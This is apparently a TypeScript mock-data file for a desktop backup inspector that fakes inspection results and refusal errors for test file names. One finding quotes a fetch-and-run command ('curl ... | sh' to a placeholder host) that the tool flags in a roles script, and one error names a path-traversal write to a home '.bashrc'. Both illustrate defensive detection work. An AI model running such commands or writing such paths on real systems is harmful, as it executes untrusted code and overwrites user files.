import type { Channel } from '@tauri-apps/api/core';
import type { BundleTableView, InspectFiles, InspectionView, LookProgress, UserError } from '../bindings';
import { NOW } from './projects';

const DAY = 86_400_000;
const table = (name: string, rows: number | null, sizeBytes: number): BundleTableView => ({
  schema: 'public',
  name,
  rows,
  sizeBytes,
});

/** A whole backup of a SupaManager, as the design shows it. */
export const inspection: InspectionView = {
  paths: ['/home/anna/Downloads/full_20261114_020003.tar.gz.enc'],
  name: 'full_20261114_020003.tar.gz.enc',
  sizeBytes: 3_110_000_000,
  sha256: ['3ba1'.repeat(16)],
  sentence: 'This is a full backup of “shop”, 7 days old.',
  kind: 'supamanager_backup',
  layers: ['AES-256-CBC with PBKDF2', 'gzip', 'tar'],
  madeBy: 'a SupaManager',
  madeAtMs: NOW - 7 * DAY,
  serverVersion: '15.8',
  toolVersion: '15.10',
  project: 'shop',
  needsPassphrase: false,
  canKeep: true,
  hasDatabase: true,
  unpackedBytes: 9_700_000_000,
  parts: [
    {
      component: 'database',
      path: 'database/dump.custom',
      sizeBytes: 3_900_000_000,
      sha256: '9f2c'.repeat(16),
      checksum: 'match',
    },
    {
      component: 'roles',
      path: 'database/roles.sql',
      sizeBytes: 4120,
      sha256: '11ab'.repeat(16),
      checksum: 'match',
    },
    {
      component: 'storage',
      path: 'storage.tar',
      sizeBytes: 5_790_000_000,
      sha256: '77e0'.repeat(16),
      checksum: 'match',
    },
    {
      component: 'config',
      path: 'config/project.json',
      sizeBytes: 9150,
      sha256: 'c0de'.repeat(16),
      checksum: 'match',
    },
  ],
  tables: [
    table('events', 4_611_902, 1_200_000_000),
    table('order_items', 488_310, 84_000_000),
    table('orders', 175_204, 61_000_000),
    table('payments', 174_930, 38_000_000),
    table('customers', 60_871, 22_000_000),
    ...Array.from({ length: 34 }, (_, index) =>
      table(`table_${index}`, 50_000 - index * 900, 12_000_000 - index * 300_000),
    ),
  ],
  rows: 11_912_400,
  files: 24_016,
  buckets: 3,
  findings: [
    {
      level: 'good',
      title: 'Format',
      words: 'SupaManager full backup, layout 2, written 14 Nov 2026 02:00 UTC',
    },
    { level: 'good', title: 'Opened', words: 'AES-256-CBC with PBKDF2; the passphrase you typed fits' },
    {
      level: 'warning',
      title: 'Not authenticated',
      words: 'This kind of encryption cannot show changes. The checksums below can.',
    },
    { level: 'good', title: 'Checksums', words: '4 of 4 components match their SHA-256' },
    { level: 'good', title: 'Readable', words: 'the archive lists 39 tables; every part was opened' },
    {
      level: 'danger',
      title: 'Shell command',
      words:
        'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.',
    },
  ],
  belongsTo: { projectId: 'p-shop-prod', project: 'shop-prod', why: '38 of 39 tables are known there' },
  backupId: null,
  importCommand:
    "holdfast bundle import '/home/anna/Downloads/full_20261114_020003.tar.gz.enc' --into 'shop-prod'",
};

const refuse = (code: UserError['code'], message: string, hint: string): never => {
  throw { code, message, hint, retry: 'after_fix', reportId: '51d0c2aa' } satisfies UserError;
};

const nameOf = (path: string) => path.split(/[\\/]/).at(-1) ?? path;

/** A file by its name: `hostile`, `truncated`, `large`, `logs`, `kept`, `photo` are what they say; `.enc` asks for a passphrase. */
function look(path: string, passphrase: string | null): InspectionView {
  const name = nameOf(path);
  const own = {
    ...inspection,
    paths: [path],
    name,
    importCommand: `holdfast bundle import '${path}' --into 'shop-prod'`,
  };
  if (name.includes('hostile'))
    refuse(
      'archive_hostile',
      '"../../home/anna/.bashrc" is refused: it would be written outside of its folder',
      'Ask whoever gave you this file where it comes from. Nothing of it was unpacked.',
    );
  if (name.includes('large'))
    refuse(
      'archive_too_large',
      `${name} is beyond a limit: 1 MB grew to more than 200 GB`,
      'A file that grows like this is hardly a backup. Nothing of it was kept.',
    );
  if (name.includes('truncated'))
    refuse(
      'archive_truncated',
      `${name} ends too early, in the middle of gzip`,
      'Get the file once more from where it came; this copy is not whole, and nothing of it was kept.',
    );
  if (name.endsWith('.enc') && !passphrase)
    return {
      ...own,
      sentence: 'This is an encrypted file; its passphrase shows what is in it.',
      kind: 'encrypted',
      layers: ['AES-256-CBC'],
      madeBy: null,
      madeAtMs: null,
      serverVersion: null,
      toolVersion: null,
      project: null,
      needsPassphrase: true,
      canKeep: false,
      hasDatabase: false,
      unpackedBytes: 0,
      parts: [],
      tables: [],
      rows: null,
      files: 0,
      buckets: 0,
      belongsTo: null,
      findings: [{ level: 'good', title: 'Format', words: 'OpenSSL, salted' }],
    };
  if (passphrase === 'wrong')
    refuse(
      'archive_passphrase_wrong',
      `the passphrase does not open ${name}`,
      'Type the passphrase again. For a SupaManager it is the ENCRYPTION_SECRET of the time when the backup was made.',
    );
  if (name.includes('photo'))
    return {
      ...own,
      sentence: 'This is no backup that Holdfast knows.',
      kind: 'unknown',
      layers: [],
      madeBy: null,
      madeAtMs: null,
      serverVersion: null,
      toolVersion: null,
      project: null,
      canKeep: false,
      hasDatabase: false,
      unpackedBytes: own.sizeBytes,
      parts: [],
      tables: [],
      rows: null,
      files: 0,
      buckets: 0,
      belongsTo: null,
      findings: [{ level: 'warning', title: 'Format', words: 'its first bytes are those of a JPEG picture' }],
    };
  if (name.includes('logs'))
    return {
      ...own,
      sentence: 'These are logs of “shop” of one day.',
      kind: 'logs',
      layers: ['gzip', 'tar'],
      hasDatabase: false,
      tables: [],
      rows: null,
      files: 41,
      buckets: 0,
      parts: own.parts
        .slice(3)
        .map((part) => ({ ...part, component: 'logs', path: 'postgres/2026-11-14.log' })),
      findings: own.findings.slice(3, 5),
      belongsTo: null,
      importCommand: `holdfast bundle import '${path}' --as NAME`,
    };
  if (name.includes('kept')) return { ...own, backupId: 'b-shop-prod' };
  return own;
}

export const inspect = ({ paths, passphrase }: InspectFiles): InspectionView[] =>
  paths.map((path) => look(path, passphrase));

/** How each look that goes on is ended. */
export type Looks = Map<string, () => void>;

/** A file called `slow`, or opened by a slow passphrase, stands at 41 % until its look is ended; the others are read at once. */
export async function slowly(
  { paths, passphrase, look: id }: InspectFiles,
  onProgress: Channel<LookProgress>,
  looks: Looks,
): Promise<void> {
  if (!paths.some((path) => nameOf(path).includes('slow')) && passphrase?.startsWith('slow') !== true) return;
  onProgress.onmessage({ bytes: 1_275_100_000, bytesTotal: inspection.sizeBytes });
  await new Promise((_, reject) =>
    looks.set(id ?? '', () =>
      reject({
        code: 'cancelled',
        message: 'cancelled',
        hint: null,
        retry: 'now',
        reportId: '',
      } satisfies UserError),
    ),
  );
}
